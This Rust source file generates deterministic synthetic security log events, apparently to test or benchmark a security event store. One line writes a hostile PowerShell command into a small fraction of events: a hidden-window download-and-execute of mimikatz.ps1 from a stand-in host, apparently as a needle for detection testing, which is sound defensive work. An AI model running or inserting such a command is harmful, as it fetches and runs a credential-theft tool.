//! Synthetic security events (storage.md §3 shape): deterministic, ~500 bytes as JSON.

use canh_core::Event;
use chrono::{DateTime, Duration, Utc};

const PROCS: &[&str] = &[
    "sshd",
    "nginx",
    "powershell.exe",
    "cmd.exe",
    "bash",
    "svchost.exe",
    "java",
    "python3",
];
const TYPES: &[&str] = &["authentication", "process", "network", "file"];

/// Event `i` of `n`, time-ordered over `[end - span, end)`.
pub(crate) fn event(i: u64, n: u64, end: DateTime<Utc>, span: Duration) -> Event {
    let step = span.num_microseconds().unwrap_or(1) / n.max(1) as i64;
    let mut x = i.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    let mut next = || {
        x ^= x >> 29;
        x = x.wrapping_mul(0xBF58_476D_1CE4_E5B9);
        x ^= x >> 32;
        x
    };
    let mut e = Event::new(end - Duration::microseconds(step * (n - i) as i64));
    let host = next() % 2000;
    let user = next() % 5000;
    e.set("host.name", format!("host-{host:04}"));
    e.set("user.name", format!("user{user:04}"));
    e.set(
        "source.ip",
        format!("10.{}.{}.{}", next() % 256, next() % 256, next() % 256),
    );
    e.set(
        "destination.ip",
        format!("172.16.{}.{}", next() % 256, next() % 256),
    );
    e.set(
        "destination.port",
        [22, 80, 443, 445, 3389, 8080][(next() % 6) as usize],
    );
    let process = PROCS[(next() % PROCS.len() as u64) as usize];
    e.set("process.name", process);
    e.set("process.pid", (next() % 65536) as i64);
    e.set("event.category", TYPES[(next() % 4) as usize]);
    e.set("event.severity", (next() % 10) as i64);
    e.set("organization.id", format!("agency-{}", host % 20));
    let cmd = if i % 10_000 == 7 {
        format!(
            "{process} -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/mimikatz.ps1')\""
        )
    } else {
        format!(
            "{process} --config /etc/{process}/{}.conf --worker {}",
            next() % 100,
            next() % 16
        )
    };
    e.set("process.command_line", cmd);
    e.set(
        "message",
        format!(
            "session {:016x} user user{user:04} on host-{host:04} performed {} via {process} \
             result={} bytes={} duration_ms={} request_id={:032x} note=routine operation logged \
             by the endpoint agent for audit purposes",
            next(),
            TYPES[(next() % 4) as usize],
            if next().is_multiple_of(5) {
                "failure"
            } else {
                "success"
            },
            next() % 100_000,
            next() % 5000,
            u128::from(next()) << 64 | u128::from(next())
        ),
    );
    e
}
